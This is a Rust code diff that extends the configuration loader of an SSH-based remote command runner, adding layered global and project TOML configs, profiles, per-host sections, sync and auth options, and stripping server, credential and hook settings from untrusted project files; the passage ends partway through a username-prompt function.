@@ -1,23 +1,300 @@
-use crate::ssh::{Auth, AuthKey, Config};
-use dirs;
+use crate::error::{self, CserunError};
+use crate::executor::Backend;
+use crate::filter::{self, OutputFilter};
+use crate::hooks::Hooks;
+use crate::init;
+use crate::limits::Limits;
+use crate::provenance;
+use crate::proxy::Proxy;
+use crate::slurm::Slurm;
+use crate::ssh::{
+    self, shell_quote, AddrOrder, AddressFamily, Auth, AuthKey, Color, Config, IgnoreFiles,
+    Symlinks, SyncBack, TarCompression, Transfer, TransferBackend, WalkOptions,
+};
+use crate::ssh_config::{self, HostConfig};
+use crate::sync;
+use log::warn;
+use regex_automata::meta::Regex;
 use serde::Deserialize;
 use std::{
+    collections::{BTreeMap, BTreeSet},
     fs::{self, File},
-    io::Write,
-    path::PathBuf,
+    io::{self, IsTerminal, Write},
+    path::{Path, PathBuf},
+    time::Duration,
 };
 
 #[derive(Debug, Deserialize)]
 struct TomlConfig {
     server: ServerConfig,
-    auth: AuthConfig,
+    auth: Option<AuthSection>,
+    #[serde(default)]
+    sync: SyncConfig,
+    #[serde(default)]
+    workspace: WorkspaceConfig,
+    #[serde(default)]
+    defaults: DefaultsConfig,
+    #[serde(default)]
+    hooks: HooksConfig,
+    #[serde(default)]
+    slurm: SlurmConfig,
+    #[serde(default)]
+    filter: FilterConfig,
+    // exported for every run, --env overrides entries with the same name
+    #[serde(default)]
+    env: BTreeMap<String, String>,
+    // named commands with {placeholders}, run as `cserun <name> <values...>`
+    #[serde(default)]
+    templates: BTreeMap<String, String>,
+}
+
+// defaults for command line flags, flags given on the command line still apply on top
+#[derive(Debug, Default, Deserialize)]
+struct DefaultsConfig {
+    #[serde(default)]
+    keep: bool,
+    #[serde(default)]
+    pty: bool,
+    #[serde(default)]
+    fetch: Vec<String>,
+    timeout: Option<String>,
+    #[serde(default)]
+    sync_back: SyncBackType,
+    log_file: Option<PathBuf>,
+    #[serde(default)]
+    log: bool, // one log per run in ~/.cserun/logs
+    save_output: Option<bool>, // stdout and stderr of every run in ~/.cserun/runs, on by default
+    encoding: Option<String>,
+    #[serde(default)]
+    color: ColorType,
+    #[serde(default)]
+    notify: bool,
+    #[serde(default)]
+    bell: bool,
+    local_dir: Option<PathBuf>, // what is uploaded instead of the current directory, like --dir
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum ColorType {
+    #[default]
+    Never,
+    Auto,
+    Always,
+}
+
+// commands run around every run, see hooks::Hooks
+#[derive(Debug, Default, Deserialize)]
+struct HooksConfig {
+    pre_sync: Option<String>,
+    pre_run: Option<String>,
+    post_run: Option<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum SyncBackType {
+    Never,
+    #[default]
+    Ask,
+    Always,
 }
 
 #[derive(Debug, Deserialize)]
 struct ServerConfig {
-    addr: String,
-    port: u16,
-    user: String,
+    host: Option<String>, // alias in ~/.ssh/config
+    addr: Option<AddrConfig>,
+    #[serde(default)]
+    addr_order: AddrOrderType,
+    connect_timeout: Option<String>, // per address, e.g. "5s"
+    handshake_timeout: Option<String>,
+    #[serde(default)]
+    address_family: AddressFamilyType,
+    port: Option<u16>,
+    user: Option<String>,
+    #[serde(default)]
+    strict_host_key_checking: bool,
+    jump_host: Option<String>,
+    proxy: Option<String>,           // e.g. "socks5://127.0.0.1:1080"
+    keepalive_interval: Option<u32>, // seconds, 0 disables keepalives
+    retries: Option<u32>,
+    #[serde(default)]
+    compression: bool,
+    shell: Option<String>, // "bash", "zsh", "fish", a full "bash -l -c" or "none"
+    control_persist: Option<String>, // how long a daemon keeps the connection open, e.g. "10m"
+    #[serde(default)]
+    requires: Vec<String>, // programs the server must have, e.g. "python3>=3.10"
+    #[serde(alias = "remote_base")]
+    remote_dir: Option<String>, // run directories and workspaces, relative to the remote home or absolute
+    remote_dir_mode: Option<u32>, // e.g. 0o700, for autotests that refuse group readable files
+    #[serde(default)]
+    backend: BackendKind, // "local" runs in a temporary directory on this machine instead
+    image: Option<String>,        // for "docker" and "podman", e.g. "gcc:13"
+    target_host: Option<String>,  // run commands on this machine, reached with ssh from the server
+    #[serde(default)]
+    limits: LimitsConfig, // [server.limits], or [hosts.<name>.limits] for a host
+}
+
+// nice, ulimit or timeout around the remote command
+#[derive(Debug, Default, Deserialize)]
+struct LimitsConfig {
+    nice: Option<i32>,
+    mem_limit: Option<String>, // e.g. "2G"
+    cpu_time: Option<String>,  // e.g. "300" or "5m"
+    nice_command: Option<String>,
+    mem_limit_command: Option<String>,
+    cpu_time_command: Option<String>,
+}
+
+// --grep and --highlight patterns applied to every run
+#[derive(Debug, Default, Deserialize)]
+struct FilterConfig {
+    #[serde(default)]
+    grep: Vec<String>,
+    #[serde(default)]
+    highlight: Vec<String>,
+    #[serde(default)]
+    context: usize,
+}
+
+// sbatch options for --slurm
+#[derive(Debug, Default, Deserialize)]
+struct SlurmConfig {
+    #[serde(default)]
+    enabled: bool,
+    partition: Option<String>,
+    time: Option<String>, // e.g. "10:00", as sbatch --time takes it
+    mem: Option<String>,
+    cpus: Option<u32>,
+    #[serde(default)]
+    options: Vec<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct WorkspaceConfig {
+    #[serde(default)]
+    enabled: bool,
+    name: Option<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct SyncConfig {
+    #[serde(default)]
+    transfer: TransferType,
+    #[serde(default)]
+    compression: CompressionType,
+    jobs: Option<usize>,
+    #[serde(default)]
+    transfer_backend: BackendType,
+    #[serde(default)]
+    symlinks: SymlinksType,
+    #[serde(default)]
+    ignore: Vec<String>,
+    #[serde(default)]
+    ignore_files: IgnoreFilesConfig,
+    default_excludes: Option<bool>, // target/, node_modules/ and the like, see sync::DEFAULT_EXCLUDES
+    max_upload_size: Option<String>,
+    max_file_size: Option<String>,
+    #[serde(default)]
+    skip_binaries: bool,
+    hidden: Option<bool>, // dotfiles, left out with a warning when not set
+    limit_rate: Option<String>,
+    #[serde(default)]
+    cache: bool,
+    cache_max_age: Option<String>, // cached files not used for this long are removed, e.g. "30d"
+    delta: Option<bool>,
+    #[serde(default)]
+    delete: bool,
+}
+
+// each ignore file can be turned off, they are all read by default
+#[derive(Debug, Default, Deserialize)]
+struct IgnoreFilesConfig {
+    gitignore: Option<bool>,
+    ignore: Option<bool>,
+    cserunignore: Option<bool>,
+    git_global: Option<bool>,
+    git_exclude: Option<bool>,
+    outside_git: Option<bool>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum SymlinksType {
+    #[default]
+    Follow,
+    Preserve,
+    Skip,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum BackendType {
+    #[default]
+    Auto,
+    Sftp,
+    Scp,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum TransferType {
+    #[default]
+    Sftp,
+    Tar,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum CompressionType {
+    #[default]
+    None,
+    Gzip,
+    Zstd,
+}
+
+// one server address, or login nodes that are tried in turn until one answers
+#[derive(Debug, Deserialize)]
+#[serde(untagged)]
+enum AddrConfig {
+    One(String),
+    Many(Vec<String>),
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+enum AddrOrderType {
+    #[default]
+    Listed,
+    Random,
+    LeastLoaded,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum AddressFamilyType {
+    #[default]
+    Any,
+    Ipv4,
+    Ipv6,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum BackendKind {
+    #[default]
+    Ssh,
+    Local,
+    Docker,
+    Podman,
+}
+
+// a single [auth] table, or [[auth]] tables that are tried in order
+#[derive(Debug, Deserialize)]
+#[serde(untagged)]
+enum AuthSection {
+    One(AuthConfig),
+    Many(Vec<AuthConfig>),
 }
 
 #[derive(Debug, Deserialize)]
@@ -28,6 +305,7 @@ struct AuthConfig {
     private_key_path: Option<String>,
     public_key_path: Option<String>,
     passphrase: Option<String>,
+    identity: Option<String>, // agent identity, by comment or SHA256 fingerprint
 }
 
 #[derive(Debug, Deserialize)]
@@ -36,6 +314,8 @@ enum AuthType {
     Password,
     Key,
     Agent,
+    #[serde(rename = "keyboard-interactive")]
+    KeyboardInteractive,
 }
 
 fn default_config_contents() -> &'static str {
@@ -52,72 +332,996 @@ pub fn get_config_path() -> Result<PathBuf, Box<dyn std::error::Error>> {
     Ok(config_path)
 }
 
-fn read_config() -> Result<TomlConfig, Box<dyn std::error::Error>> {
+// per-project config, looked up from the current directory upwards
+pub fn find_project_config() -> Option<PathBuf> {
+    let cwd = std::env::current_dir().ok()?;
+    cwd.ancestors()
+        .map(|dir| dir.join(".cserun.toml"))
+        .find(|path| path.is_file())
+}
+
+fn read_table(path: &PathBuf) -> Result<toml::Table, Box<dyn std::error::Error>> {
+    let contents = fs::read_to_string(path)?;
+    toml::from_str(&contents).map_err(|e| format!("{}: {}", path.display(), e).into())
+}
+
+// the names in a section of the config files and of their profiles, e.g. the profiles, hosts
+// or templates for completing them. a file that can not be read has none
+pub fn config_names(section: &str) -> Vec<String> {
+    let project = find_project_config().and_then(|path| read_table(&path).ok());
+    let layers = get_config_path()
+        .ok()
+        .and_then(|path| read_table(&path).ok())
+        .into_iter()
+        .chain(project.map(|mut layer| {
+            drop_untrusted(&mut layer);
+            layer
+        }));
+    let mut names = BTreeSet::new();
+    for layer in layers {
+        let profiles = match layer.get("profiles") {
+            Some(toml::Value::Table(profiles)) => profiles.values().collect(),
+            _ => Vec::new(),
+        };
+        let tables = std::iter::once(&layer)
+            .chain(profiles.into_iter().filter_map(toml::Value::as_table))
+            .filter_map(|table| table.get(section)?.as_table());
+        for table in tables {
+            names.extend(table.keys().cloned());
+        }
+    }
+    names.into_iter().collect()
+}
+
+// what a .cserun.toml that came with a cloned repository must not decide: which server and
+// account the files go to, the credentials, and hooks, which run on this machine
+const UNTRUSTED_SERVER_KEYS: [&str; 11] = [
+    "host",
+    "addr",
+    "port",
+    "user",
+    "jump_host",
+    "proxy",
+    "strict_host_key_checking",
+    "backend",
+    "image",
+    "target_host",
+    "limits",
+];
+const UNTRUSTED_SECTIONS: [&str; 3] = ["auth", "hooks", "hosts"];
+
+// take the settings above out of a project layer and its profiles, returns the ones it had
+fn drop_untrusted(layer: &mut toml::Table) -> Vec<String> {
+    let mut dropped = Vec::new();
+    let mut strip = |table: &mut toml::Table, prefix: &str| {
+        for section in UNTRUSTED_SECTIONS {
+            if table.remove(section).is_some() {
+                dropped.push(format!("[{}{}]", prefix, section));
+            }
+        }
+        if let Some(toml::Value::Table(server)) = table.get_mut("server") {
+            for key in UNTRUSTED_SERVER_KEYS {
+                if server.remove(key).is_some() {
+                    dropped.push(format!("{}server.{}", prefix, key));
+                }
+            }
+        }
+    };
+    strip(layer, "");
+    if let Some(toml::Value::Table(profiles)) = layer.get_mut("profiles") {
+        for (name, profile) in profiles.iter_mut() {
+            if let toml::Value::Table(profile) = profile {
+                strip(profile, &format!("profiles.{}.", name));
+            }
+        }
+    }
+    dropped
+}
+
+// later tables win, nested tables are merged key by key
+fn merge_table(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base_table)), toml::Value::Table(overlay_table)) => {
+                merge_table(base_table, overlay_table)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+// each layer with the profile's table of it merged on top, in order. --profile beats a
+// `profile = "..."` default set in the files
+fn merge_layers(layers: Vec<toml::Table>, profile: Option<&str>) -> Result<toml::Table, String> {
+    let profile = match profile {
+        Some(p) => Some(p.to_string()),
+        None => layers
+            .iter()
+            .rev()
+            .find_map(|layer| layer.get("profile")?.as_str().map(String::from)),
+    };
+
+    let mut merged = toml::Table::new();
+    let mut profile_found = false;
+    for mut layer in layers {
+        let profiles = layer.remove("profiles");
+        layer.remove("profile");
+        merge_table(&mut merged, layer);
+        if let (Some(name), Some(toml::Value::Table(mut profiles))) = (&profile, profiles) {
+            if let Some(toml::Value::Table(profile_table)) = profiles.remove(name) {
+                merge_table(&mut merged, profile_table);
+                profile_found = true;
+            }
+        }
+    }
+    if let (Some(name), false) = (&profile, profile_found) {
+        return Err(format!("Profile {:?} not found", name));
+    }
+    Ok(merged)
+}
+
+// layers, lowest priority first: global config, its profile, project config, its profile
+fn read_config(
+    profile: Option<&str>,
+    host: Option<&str>,
+) -> Result<TomlConfig, Box<dyn std::error::Error>> {
     let config_path = get_config_path()?;
-    // check if the config file exists
-    if !config_path.exists() {
-        let mut file = File::create(&config_path)?;
-        file.write_all(default_config_contents().as_bytes())?;
-        eprintln!(
-            "Config file created at {:?}, please fill in the necessary information",
-            config_path
-        );
-        std::process::exit(1);
+    let project_path = find_project_config();
+
+    let mut layers = Vec::new();
+    if config_path.exists() {
+        layers.push(read_table(&config_path)?);
+    }
+    if let Some(project_path) = &project_path {
+        let mut layer = read_table(project_path)?;
+        let dropped = drop_untrusted(&mut layer);
+        if !dropped.is_empty() {
+            warn!(
+                "Ignored {} in {}, a project config can not choose the server, the login or \
+                 hooks. Put them in {} instead",
+                dropped.join(", "),
+                project_path.display(),
+                config_path.display()
+            );
+        }
+        if let Some(project_dir) = project_path.parent() {
+            anchor_local_dir(&mut layer, project_dir);
+        }
+        layers.push(layer);
     }
 
-    let contents = fs::read_to_string(&config_path)?;
-    let config: TomlConfig = toml::from_str(&contents)?;
+    let mut merged = merge_layers(layers, profile)?;
+    let hosts = merged.remove("hosts");
+    if let Some(name) = host {
+        use_host(&mut merged, hosts, name)?;
+    }
+
+    let config: TomlConfig = toml::Value::Table(merged).try_into()?;
 
     Ok(config)
 }
 
-pub fn get_ssh_config() -> Config {
-    let config: TomlConfig = read_config().unwrap_or_else(|e| {
-        eprintln!("Error reading config: {}", e);
-        std::process::exit(1);
-    });
-    // match the auth type
-    let auth: Auth = match config.auth.auth_type {
-        AuthType::Password => {
-            let password = match config.auth.password {
-                Some(p) => p,
-                None => {
-                    // ask for password
-                    rpassword::prompt_password("ssh password: ").unwrap()
+// a directory in the remote home or an absolute one, with $NAME or ${NAME} for the server's
+// environment variables
+fn check_remote_dir(dir: &str) -> Result<(), String> {
+    if dir.is_empty() {
+        return Err("it can not be empty or /".to_string());
+    }
+    if dir.starts_with('~') {
+        return Err("it is relative to the home directory already, or use $HOME".to_string());
+    }
+    if dir.split('/').any(|part| part == "..") {
+        return Err("it can not contain ..".to_string());
+    }
+    let mut rest = dir;
+    while let Some(index) = rest.find('$') {
+        rest = &rest[index + 1..];
+        let name = match rest.strip_prefix('{') {
+            Some(braced) => match braced.find('}') {
+                Some(end) => {
+                    rest = &braced[end + 1..];
+                    &braced[..end]
                 }
-            };
-            Auth::Password(password)
+                None => return Err("a ${ is not closed".to_string()),
+            },
+            None => {
+                let end = rest
+                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                    .unwrap_or(rest.len());
+                let name = &rest[..end];
+                rest = &rest[end..];
+                name
+            }
+        };
+        if !is_env_name(name) {
+            return Err("$ has to be followed by the name of an environment variable".to_string());
         }
-        AuthType::Key => {
-            let private_key_path = match config.auth.private_key_path {
-                Some(p) => PathBuf::from(p.as_str()),
-                None => {
-                    eprintln!("Private key path not found in config");
-                    std::process::exit(1);
+    }
+    Ok(())
+}
+
+// a relative local_dir in the project config is relative to the directory the file is in,
+// wherever cserun is started from. its profiles included
+fn anchor_local_dir(layer: &mut toml::Table, project_dir: &Path) {
+    fn anchor(table: &mut toml::Table, project_dir: &Path) {
+        if let Some(toml::Value::Table(defaults)) = table.get_mut("defaults") {
+            if let Some(toml::Value::String(dir)) = defaults.get_mut("local_dir") {
+                if Path::new(dir.as_str()).is_relative() && !dir.starts_with('~') {
+                    *dir = project_dir
+                        .join(dir.as_str())
+                        .to_string_lossy()
+                        .into_owned();
                 }
+            }
+        }
+    }
+    anchor(layer, project_dir);
+    if let Some(toml::Value::Table(profiles)) = layer.get_mut("profiles") {
+        for (_, profile) in profiles.iter_mut() {
+            if let toml::Value::Table(profile) = profile {
+                anchor(profile, project_dir);
+            }
+        }
+    }
+}
+
+// ~/ at the start of a local path is the home directory, as in a shell
+fn expand_home(path: PathBuf) -> PathBuf {
+    match (path.strip_prefix("~"), dirs::home_dir()) {
+        (Ok(rest), Some(home)) => home.join(rest),
+        _ => path,
+    }
+}
+
+// a [hosts.<name>] section is a server of its own: it stands in for [server] and [auth],
+// and its ignore patterns are added to the ones in [sync]
+fn use_host(
+    merged: &mut toml::Table,
+    hosts: Option<toml::Value>,
+    name: &str,
+) -> Result<(), Box<dyn std::error::Error>> {
+    let host = match hosts {
+        Some(toml::Value::Table(mut hosts)) => hosts.remove(name),
+        _ => None,
+    };
+    let Some(toml::Value::Table(mut host)) = host else {
+        return Err(format!("Host {:?} not found in [hosts]", name).into());
+    };
+    // without an auth of its own the host gets the defaults, not the auth of [server]
+    match host.remove("auth") {
+        Some(auth) => merged.insert("auth".to_string(), auth),
+        None => merged.remove("auth"),
+    };
+    if let Some(toml::Value::Array(extra)) = host.remove("ignore") {
+        let sync = merged
+            .entry("sync")
+            .or_insert_with(|| toml::Value::Table(toml::Table::new()));
+        if let toml::Value::Table(sync) = sync {
+            let ignore = sync
+                .entry("ignore")
+                .or_insert_with(|| toml::Value::Array(Vec::new()));
+            if let toml::Value::Array(ignore) = ignore {
+                ignore.extend(extra);
+            }
+        }
+    }
+    merged.insert("server".to_string(), toml::Value::Table(host));
+    Ok(())
+}
+
+// the settings of one invocation, or the message to show when they are invalid. it does not
+// exit, the control daemon reads the config of every run it serves
+pub fn get_ssh_config(profile: Option<&str>, host: Option<&str>) -> Result<Config, String> {
+    let config_path = get_config_path().map_err(|e| format!("Error reading config: {}", e))?;
+    if !config_path.exists() && find_project_config().is_none() {
+        File::create(&config_path)
+            .and_then(|mut file| file.write_all(default_config_contents().as_bytes()))
+            .map_err(|e| format!("Error reading config: {}", e))?;
+        return Err(format!(
+            "Config file created at {:?}, please fill in the necessary information",
+            config_path
+        ));
+    }
+    let config: TomlConfig =
+        read_config(profile, host).map_err(|e| format!("Error reading config: {}", e))?;
+    // fill in anything missing from the matching Host block in ~/.ssh/config
+    let host_config = match &config.server.host {
+        Some(alias) => {
+            ssh_config::lookup(alias).map_err(|e| format!("Error reading ~/.ssh/config: {}", e))?
+        }
+        None => HostConfig::default(),
+    };
+    let addrs = match (config.server.addr, host_config.hostname, config.server.host) {
+        (Some(AddrConfig::One(addr)), _, _) => vec![addr],
+        (Some(AddrConfig::Many(addrs)), _, _) if !addrs.is_empty() => addrs,
+        (Some(AddrConfig::Many(_)), _, _) => {
+            return Err("The list of server addresses in [server] is empty".to_string());
+        }
+        (None, Some(hostname), _) => vec![hostname],
+        (None, None, Some(alias)) => vec![alias],
+        (None, None, None) => {
+            return Err("Server address not found in config, set either addr or host".to_string());
+        }
+    };
+    let port = config.server.port.or(host_config.port).unwrap_or(22);
+    if port == 0 {
+        return Err("Invalid port in [server]: 0".to_string());
+    }
+    // an address may have its own port, e.g. "login1.example.com:2222" or "[2001:db8::1]:2222"
+    let mut addrs: Vec<String> = addrs
+        .into_iter()
+        .map(|addr| {
+            ssh::normalize_addr(&addr, port).map_err(|e| format!("Invalid addr in [server]: {}", e))
+        })
+        .collect::<Result<_, _>>()?;
+    let server_addr = addrs.remove(0);
+    let remote_dir = config
+        .server
+        .remote_dir
+        .unwrap_or_else(|| ".cserun".to_string());
+    let remote_dir = remote_dir.trim_end_matches('/').to_string();
+    if let Err(e) = check_remote_dir(&remote_dir) {
+        return Err(format!(
+            "Invalid remote_dir in [server]: {:?}, {}",
+            remote_dir, e
+        ));
+    }
+    // the owner has to be able to upload into and clean up the directories
+    if let Some(mode) = config.server.remote_dir_mode {
+        if mode > 0o777 || mode & 0o700 != 0o700 {
+            return Err(format!(
+                "Invalid remote_dir_mode in [server]: {:o}, use a mode like 0o700 or 0o750 that gives the owner rwx",
+                mode
+            ));
+        }
+    }
+    let connect_timeout = config
+        .server
+        .connect_timeout
+        .as_deref()
+        .map(|timeout| {
+            parse_duration(timeout)
+                .map_err(|e| format!("Invalid connect_timeout in [server]: {}", e))
+        })
+        .transpose()?;
+    let proxy = config
+        .server
+        .proxy
+        .as_deref()
+        .map(|url| Proxy::parse(url).map_err(|e| format!("Invalid proxy in [server]: {}", e)))
+        .transpose()?;
+    let handshake_timeout = config
+        .server
+        .handshake_timeout
+        .as_deref()
+        .map(|timeout| {
+            parse_duration(timeout)
+                .map_err(|e| format!("Invalid handshake_timeout in [server]: {}", e))
+        })
+        .transpose()?;
+    let username = match config.server.user.or(host_config.user) {
+        Some(u) if u.trim().is_empty() => {
+            return Err("Invalid user in [server]: it can not be empty".to_string());
+        }
+        Some(u) => u,
+        None => ask_username(&server_addr, host)?,
+    };
+
+    // the name becomes a directory under ~/.cserun/workspaces
+    let workspace_name = config.workspace.name;
+    if let Some(name) = &workspace_name {
+        if name.is_empty() || name.contains('/') || name == "." || name == ".." {
+            return Err(format!("Invalid workspace name: {:?}", name));
+        }
+    }
+
+    let timeout = config
+        .defaults
+        .timeout
+        .as_deref()
+        .map(|timeout| {
+            parse_duration(timeout).map_err(|e| format!("Invalid timeout in [defaults]: {}", e))
+        })
+        .transpose()?;
+
+    let limits = parse_limits(config.server.limits)?;
+    let control_persist = config
+        .server
+        .control_persist
+        .as_deref()
+        .map(|persist| {
+            parse_duration(persist)
+                .map_err(|e| format!("Invalid control_persist in [server]: {}", e))
+        })
+        .transpose()?;
+
+    let max_upload_size = config
+        .sync
+        .max_upload_size
+        .as_deref()
+        .map(|size| {
+            parse_size(size).map_err(|e| format!("Invalid max_upload_size in [sync]: {}", e))
+        })
+        .transpose()?;
+    let max_file_size = config
+        .sync
+        .max_file_size
+        .as_deref()
+        .map(|size| parse_size(size).map_err(|e| format!("Invalid max_file_size in [sync]: {}", e)))
+        .transpose()?;
+    let requires = config
+        .server
+        .requires
+        .iter()
+        .map(|requirement| {
+            requirement
+                .parse()
+                .map_err(|e| format!("Invalid requires in [server]: {}", e))
+        })
+        .collect::<Result<_, _>>()?;
+    let encoding = config
+        .defaults
+        .encoding
+        .as_deref()
+        .map(|encoding| {
+            encoding
+                .parse()
+                .map_err(|e| format!("Invalid encoding in [defaults]: {}", e))
+        })
+        .transpose()?
+        .unwrap_or_default();
+    let limit_rate = config
+        .sync
+        .limit_rate
+        .as_deref()
+        .map(|rate| parse_size(rate).map_err(|e| format!("Invalid limit_rate in [sync]: {}", e)))
+        .transpose()?;
+    let cache_max_age = match config.sync.cache_max_age.as_deref() {
+        Some(age) => {
+            parse_duration(age).map_err(|e| format!("Invalid cache_max_age in [sync]: {}", e))?
+        }
+        None => sync::CACHE_MAX_AGE,
+    };
+
+    // the names end up in an `export` when the server refuses setenv
+    if let Some(key) = config.env.keys().find(|key| !is_env_name(key)) {
+        return Err(format!(
+            "Invalid environment variable name in [env]: {:?}",
+            key
+        ));
+    }
+
+    // match the auth types
+    let auth: Vec<Auth> = match config.auth {
+        Some(AuthSection::One(auth_config)) => {
+            vec![get_auth(auth_config, host_config.identity_file)?]
+        }
+        Some(AuthSection::Many(auth_configs)) => auth_configs
+            .into_iter()
+            .map(|auth_config| get_auth(auth_config, host_config.identity_file.clone()))
+            .collect::<Result<_, _>>()?,
+        // no [auth] section, the ssh config identity if there is one, then the agent
+        None => host_config
+            .identity_file
+            .map(|identity_file| {
+                Auth::AuthKey(AuthKey {
+                    pubkey: None,
+                    privekey: identity_file,
+                    passphrase: None,
+                })
+            })
+            .into_iter()
+            .chain([Auth::Agent(None)])
+            .collect(),
+    };
+    if auth.is_empty() {
+        return Err("No authentication method in [[auth]]".to_string());
+    }
+    Ok(Config {
+        server_addr,
+        // a node that is down should not hold up the others for the system's minutes-long timeout
+        connect_timeout: match (connect_timeout, addrs.is_empty()) {
+            (Some(timeout), _) => timeout,
+            (None, true) => ssh::DEFAULT_CONNECT_TIMEOUT,
+            (None, false) => ssh::DEFAULT_FALLBACK_CONNECT_TIMEOUT,
+        },
+        handshake_timeout: handshake_timeout.unwrap_or(ssh::DEFAULT_HANDSHAKE_TIMEOUT),
+        backend: match config.server.backend {
+            BackendKind::Ssh => Backend::Ssh,
+            BackendKind::Local => Backend::Local,
+            BackendKind::Docker => Backend::Docker,
+            BackendKind::Podman => Backend::Podman,
+        },
+        image: config.server.image,
+        address_family: match config.server.address_family {
+            AddressFamilyType::Any => AddressFamily::Any,
+            AddressFamilyType::Ipv4 => AddressFamily::Ipv4,
+            AddressFamilyType::Ipv6 => AddressFamily::Ipv6,
+        },
+        fallback_addrs: addrs,
+        addr_order: match config.server.addr_order {
+            AddrOrderType::Listed => AddrOrder::Listed,
+            AddrOrderType::Random => AddrOrder::Random,
+            AddrOrderType::LeastLoaded => AddrOrder::LeastLoaded,
+        },
+        username,
+        auth,
+        shell: config.server.shell.as_deref().and_then(parse_shell),
+        local_dir: match config.defaults.local_dir {
+            Some(dir) => expand_home(dir),
+            None => PathBuf::from("./"),
+        },
+        envs: config.env.into_iter().collect(),
+        templates: config.templates,
+        remote_dir,
+        remote_dir_mode: config.server.remote_dir_mode,
+        pty: config.defaults.pty,
+        filter: OutputFilter {
+            grep: patterns("grep", config.filter.grep)?,
+            highlight: patterns("highlight", config.filter.highlight)?,
+            context: config.filter.context,
+        },
+        encoding,
+        color: match config.defaults.color {
+            ColorType::Never => Color::Never,
+            ColorType::Auto => Color::Auto,
+            ColorType::Always => Color::Always,
+        },
+        fetch: config.defaults.fetch,
+        log_file: config.defaults.log_file,
+        log_runs: config.defaults.log,
+        save_output: config.defaults.save_output.unwrap_or(true),
+        sync_back: match config.defaults.sync_back {
+            SyncBackType::Never => SyncBack::Never,
+            SyncBackType::Ask => SyncBack::Ask,
+            SyncBackType::Always => SyncBack::Always,
+        },
+        workspace: config.workspace.enabled,
+        workspace_name,
+        transfer: match config.sync.transfer {
+            TransferType::Sftp => Transfer::Sftp,
+            TransferType::Tar => Transfer::Tar(match config.sync.compression {
+                CompressionType::None => TarCompression::None,
+                CompressionType::Gzip => TarCompression::Gzip,
+                CompressionType::Zstd => TarCompression::Zstd,
+            }),
+        },
+        jobs: config.sync.jobs.unwrap_or(1),
+        transfer_backend: match config.sync.transfer_backend {
+            BackendType::Auto => TransferBackend::Auto,
+            BackendType::Sftp => TransferBackend::Sftp,
+            BackendType::Scp => TransferBackend::Scp,
+        },
+        progress: true,
+        keep: config.defaults.keep,
+        notify: config.defaults.notify,
+        bell: config.defaults.bell,
+        timeout,
+        max_upload_size,
+        limit_rate,
+        cache: config.sync.cache,
+        cache_max_age,
+        delta: config.sync.delta.unwrap_or(true),
+        delete: config.sync.delete,
+        requires,
+        hooks: Hooks {
+            pre_sync: config.hooks.pre_sync,
+            pre_run: config.hooks.pre_run,
+            post_run: config.hooks.post_run,
+        },
+        target_host: config.server.target_host,
+        limits,
+        slurm: Slurm {
+            enabled: config.slurm.enabled,
+            partition: config.slurm.partition,
+            time: config.slurm.time,
+            mem: config.slurm.mem,
+            cpus: config.slurm.cpus,
+            options: config.slurm.options,
+        },
+        keepalive_interval: config.server.keepalive_interval.unwrap_or(30),
+        control_persist,
+        retries: config.server.retries.unwrap_or(3),
+        compress: config.server.compression,
+        walk: WalkOptions {
+            symlinks: match config.sync.symlinks {
+                SymlinksType::Follow => Symlinks::Follow,
+                SymlinksType::Preserve => Symlinks::Preserve,
+                SymlinksType::Skip => Symlinks::Skip,
+            },
+            ignore: config.sync.ignore,
+            ignore_files: {
+                let files = config.sync.ignore_files;
+                IgnoreFiles {
+                    gitignore: files.gitignore.unwrap_or(true),
+                    ignore: files.ignore.unwrap_or(true),
+                    cserunignore: files.cserunignore.unwrap_or(true),
+                    git_global: files.git_global.unwrap_or(true),
+                    git_exclude: files.git_exclude.unwrap_or(true),
+                    outside_git: files.outside_git.unwrap_or(false),
+                }
+            },
+            default_excludes: config.sync.default_excludes.unwrap_or(true),
+            max_file_size,
+            skip_binaries: config.sync.skip_binaries,
+            hidden: config.sync.hidden,
+            ..WalkOptions::default()
+        },
+        strict_host_key_checking: config.server.strict_host_key_checking,
+        jump_host: config.server.jump_host.or(host_config.proxy_jump),
+        proxy,
+        ..Config::default()
+    })
+}
+
+// the regular expressions of a [filter] key, an invalid one is a config error
+fn patterns(key: &str, patterns: Vec<String>) -> Result<Vec<Regex>, String> {
+    patterns
+        .iter()
+        .map(|pattern| {
+            filter::parse_pattern(pattern)
+                .map_err(|e| format!("Invalid {} in [filter]: {}", key, e))
+        })
+        .collect()
+}
+
+// without a user anywhere the login would fail with a confusing auth error, so ask for it,
+// and offer to write it into the config file for the next runs
+fn ask_username(server_addr: &str, host: Option<&str>) -> Result<String, String> {
+    let missing = "Username not found in config or ~/.ssh/config, set user in [server]";
+    if !console::Term::stderr().is_term() || !io::stdin().is_terminal() {
+        return Err(missing.to_string());
+    }
+    let local_user = provenance::username();
+    let default = Some(local_user.as_str()).filter(|user| !user.is_empty());
+    let user = init::ask(&format!("Username on {}", server_addr), default)
+        .map_err(|e| e.report().to_string())?;
+    let section = match host {
+        Some(name) => format!("hosts.{}", name),
+        None => "server".to_string(),
+    };
+    let config_path = get_config_path().map_err(|e| e.to_string())?;
+    let question = format!(
+        "Save it as user in [{}] of {}?",
+        section,
+        config_path.display()
+    );
+    if init::confirm(&question, true).map_err(|e| e.report().to_string())? {
+        save_user(&config_path, &section, &user)
+            .map_err(|e| format!("Could not save the username: {}", e))?;
+        eprintln!("Saved, edit {} to change it", config_path.display());
